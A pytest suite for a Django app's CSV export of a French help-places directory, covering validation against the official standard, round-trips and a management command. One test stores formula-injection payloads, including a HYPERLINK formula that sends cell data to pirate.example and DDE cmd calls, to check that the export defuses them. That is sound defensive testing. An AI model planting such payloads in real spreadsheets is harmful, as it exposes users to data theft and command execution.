import csv
import hashlib
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from directory import standard
from directory.export import help_places_export_csv
from directory.models import HelpPlace
from directory.services import help_places_import
from territories.models import EPCI, Commune
from tests.directory.places import place as stored_place

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
DEMO_CSV = ROOT / "directory/data/demo-lieux.csv"
SCHEMA = ROOT / "directory/data/schema.json"
# SHA-256 of the schema.json published with the standard v1.0.2: the rules we check
# imports and exports against are the standard's, byte for byte.
STANDARD_SCHEMA_SHA256 = (
    "c268f27e019a37b73c0fda92768c862b2dd53c83dd047beabb43fe9254105cef"
)
OFFICIAL_EXAMPLE = Path(__file__).resolve().parent / "exemple-officiel.csv"
PERCHE = "200006971"  # Communauté de communes du Perche
SENONCHES = "200069912"  # Communauté de communes des Forêts du Perche (Senonches)


def rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def table() -> list[dict]:
    return list(HelpPlace.objects.order_by("pk").values())


def frictionless_validate(path: Path) -> dict:
    """The standard's official validator, run as its README says, beside the file
    (it refuses paths outside its working directory)."""
    shutil.copyfile(SCHEMA, path.parent / "schema.json")
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "frictionless"),
            "validate",
            "--json",
            "--schema",
            "schema.json",
            path.name,
        ],
        cwd=path.parent,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode in (0, 1), result.stderr
    return json.loads(result.stdout)


def errors(report: dict) -> list[tuple[str, str]]:
    return [
        (error["type"], error.get("fieldName", ""))
        for task in report["tasks"]
        for error in task["errors"]
    ]


def test_repository_schema_is_the_standards_own():
    assert hashlib.sha256(SCHEMA.read_bytes()).hexdigest() == STANDARD_SCHEMA_SHA256


def test_official_example_comes_back_out_cell_for_cell(reims):
    help_places_import(data=OFFICIAL_EXAMPLE.read_bytes())
    data = help_places_export_csv()
    assert not data.startswith(b"\xef\xbb\xbf")
    header = next(csv.reader(io.StringIO(data.decode())))
    assert header == list(standard.column_names())
    assert header[0] == "id" and header[3] == "commune"
    assert rows(data) == rows(OFFICIAL_EXAMPLE.read_bytes())
    exported = rows(data)[0]
    assert exported["latitude"] == "43.52609"
    assert exported["frais_a_charge"] == "Gratuit sous condition|Payant"
    assert exported["date_maj"] == "2024-04-02"


def test_export_of_the_demo_data_is_valid_for_the_official_validator(perche, tmp_path):
    help_places_import(data=DEMO_CSV.read_bytes())
    path = tmp_path / "lieux.csv"
    path.write_bytes(help_places_export_csv())
    report = frictionless_validate(path)
    assert errors(report) == []
    assert report["valid"] is True
    assert report["tasks"][0]["stats"]["rows"] == 11


def test_a_file_out_of_the_standard_is_refused_by_the_validator(tmp_path):
    """The validator check above can fail: a bad postcode is caught."""
    good = rows(OFFICIAL_EXAMPLE.read_bytes())[0]
    path = tmp_path / "mauvais.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(good))
        writer.writeheader()
        writer.writerow({**good, "code_postal": "5110"})
    assert errors(frictionless_validate(path)) == [("constraint-error", "code_postal")]


def test_coordinates_taken_from_the_town_hall_are_left_empty(perche):
    help_places_import(data=DEMO_CSV.read_bytes())
    place = HelpPlace.objects.get(standard_id="demo-pij-espace-jeunes-senonches")
    assert place.coordinates_source == HelpPlace.CoordinatesSource.COMMUNE
    assert place.latitude is not None
    exported = {row["id"]: row for row in rows(help_places_export_csv())}
    assert exported[place.standard_id]["latitude"] == ""
    assert exported[place.standard_id]["longitude"] == ""

    place.latitude, place.longitude = 48.5611, 1.0357
    place.coordinates_source = HelpPlace.CoordinatesSource.PLACE
    place.save()
    exported = {row["id"]: row for row in rows(help_places_export_csv())}
    assert exported[place.standard_id]["latitude"] == "48.5611"
    assert exported[place.standard_id]["longitude"] == "1.0357"


def test_export_then_reimport_changes_nothing(perche, reims):
    help_places_import(data=DEMO_CSV.read_bytes())
    help_places_import(data=OFFICIAL_EXAMPLE.read_bytes())
    tricky = HelpPlace.objects.get(standard_id="demo-cbe-nogent")
    tricky.presentation_detail = 'Deux lignes,\nune "citation" ; et des virgules, ici.'
    tricky.latitude, tricky.longitude = 48.32178901234567, 0.8213
    tricky.coordinates_source = HelpPlace.CoordinatesSource.PLACE
    tricky.save()
    before = table()

    report = help_places_import(data=help_places_export_csv())

    assert (report.created, report.updated, report.unchanged) == (0, 0, 12)
    assert report.problems == [] and report.warnings == []
    assert table() == before


def test_export_of_one_epci_then_reimport_for_it_changes_nothing(perche):
    help_places_import(data=DEMO_CSV.read_bytes())
    perche_cc = EPCI.objects.get(siren=PERCHE)
    before = table()

    data = help_places_export_csv(epci=perche_cc)
    report = help_places_import(data=data, epci=perche_cc)

    assert (report.created, report.updated, report.unchanged) == (0, 0, 5)
    assert table() == before


def test_a_stored_cell_a_spreadsheet_would_run_is_written_as_text(perche, tmp_path):
    """A row stored before the import refused formulas: the export defuses each
    such cell with a leading apostrophe (OWASP), and leaves the others as they are."""
    nogent = Commune.objects.get(insee_code="28280")
    stored_place(
        nogent,
        "lieu-ancien",
        nom='=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
        adresse="@SUM(1+1)*cmd|' /C calc'!A0",
        complement_adresse="+cmd|' /C calc'!A0",
        presentation_detail="-2+3",
        source="\t=1+1",
        structure_parente="\rSUM(1)",
        typologie=["=cmd|' /C calc'!A0", "ASSO"],
        telephone="+33237521234",
        latitude=48.3217,
        longitude=-0.8214,
    )
    data = help_places_export_csv()

    (row,) = rows(data)
    assert row["nom"] == '\'=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")'
    assert row["adresse"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["complement_adresse"] == "'+cmd|' /C calc'!A0"
    assert row["presentation_detail"] == "'-2+3"
    assert row["source"] == "'\t=1+1"
    assert row["structure_parente"] == "'\rSUM(1)"
    assert row["typologie"] == "'=cmd|' /C calc'!A0|ASSO"
    # A phone number, a negative number, a date: no formula, written as stored.
    assert row["telephone"] == "+33237521234"
    assert row["longitude"] == "-0.8214"
    assert row["date_maj"] == "2026-11-02"
    executable = [
        name
        for name, cell in row.items()
        if cell[:1] in standard.FORMULA_STARTS
        and name not in ("telephone", "longitude")
    ]
    assert executable == []
    # Still a file in the standard.
    path = tmp_path / "lieux.csv"
    path.write_bytes(data)
    assert errors(frictionless_validate(path)) == []


def test_export_of_one_epci_holds_only_its_places(perche):
    help_places_import(data=DEMO_CSV.read_bytes())
    senonches = EPCI.objects.get(siren=SENONCHES)
    exported = rows(help_places_export_csv(epci=senonches))
    assert {row["id"] for row in exported} == {
        "demo-pij-espace-jeunes-senonches",
        "demo-france-services-senonches",
    }
    everything = rows(help_places_export_csv())
    assert len(everything) == 11


def test_export_of_an_empty_directory_is_the_header_alone(db):
    assert help_places_export_csv().decode().splitlines() == [
        ",".join(standard.column_names())
    ]


def test_command_writes_the_file(perche, tmp_path, capsys):
    help_places_import(data=DEMO_CSV.read_bytes())
    path = tmp_path / "export.csv"
    call_command("export_help_places", "--epci", SENONCHES, "-o", str(path))
    assert len(rows(path.read_bytes())) == 2
    assert "2 lieux exportés" in capsys.readouterr().err

    call_command("export_help_places")
    assert len(rows(capsys.readouterr().out.encode())) == 11


def test_command_refuses_an_unknown_epci(db):
    with pytest.raises(CommandError, match="Aucun EPCI de SIREN 999999999"):
        call_command("export_help_places", "--epci", "999999999")
